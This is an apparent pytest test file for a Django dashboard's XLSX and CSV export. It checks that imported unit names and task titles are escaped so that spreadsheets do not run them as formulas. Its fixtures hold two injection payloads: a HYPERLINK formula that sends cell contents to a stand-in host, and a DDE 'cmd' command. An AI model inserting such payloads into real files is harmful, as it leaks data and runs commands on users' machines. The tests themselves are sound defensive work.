"""Text from imported directives and unit names is never written to an export as a formula
(tuson_qp/spreadsheet.py): the dashboard's XLSX and CSV, like the audit CSV."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from directives.models import Task
from tasks.models import Unit
from tuson_qp.spreadsheet import safe_cell

LINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Xem")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Đình Bảng", "1.1", "", None, -3, 2.5, 0])
def test_everything_else_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.fixture
def crafted(world):
    Unit.objects.filter(key="phong-vhtt").update(name=LINK)
    Task.objects.filter(directive=world.directive, key="1.1").update(title=COMMAND)
    return world


def _export(client, world, **params):
    client.force_login(world.reviewer)
    response = client.get(reverse("reports:dashboard_export", args=[world.directive.pk]),
                          {"ngay": "10/05/2022", **params})
    assert response.status_code == 200
    return response


def test_the_workbook_holds_the_text_not_a_formula(client, crafted):
    book = openpyxl.load_workbook(io.BytesIO(_export(client, crafted).content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + LINK in values and "'" + COMMAND in values
    assert LINK not in values and COMMAND not in values


@pytest.mark.parametrize("table", ["qua-han", "don-vi", "ma-tran"])
def test_every_csv_table_holds_the_text_not_a_formula(client, crafted, table):
    text = _export(client, crafted, dinh_dang="csv", bang=table).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    if table in ("qua-han", "don-vi"):
        assert "'" + LINK in cells
